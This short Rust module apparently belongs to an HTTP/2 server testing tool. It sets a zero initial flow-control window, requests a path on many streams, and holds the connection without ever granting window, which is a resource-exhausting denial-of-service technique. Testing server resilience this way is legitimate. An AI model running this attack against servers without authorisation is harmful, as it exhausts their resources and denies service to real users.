//! Asks for large answers on many streams and never gives window for them.

use super::Outcome;
use super::frames::{END_HEADERS, END_STREAM, HEADERS, Peer, frame, request};
use crate::Target;
use anyhow::Result;
use std::time::Duration;

const SETTING_INITIAL_WINDOW: u16 = 4;

/// So many requests for `path`; stays for so long.
pub async fn run(target: &Target, path: &str, streams: u32, stay: Duration) -> Result<Outcome> {
    let mut peer = Peer::connect(target, &[(SETTING_INITIAL_WINDOW, 0)]).await?;
    let block = request("GET", &target.authority(), path);
    let bytes: Vec<u8> =
        (0..streams).flat_map(|number| frame(HEADERS, END_STREAM | END_HEADERS, number * 2 + 1, &block)).collect();
    let _ = peer.send(&bytes).await;
    peer.end(stay).await
}
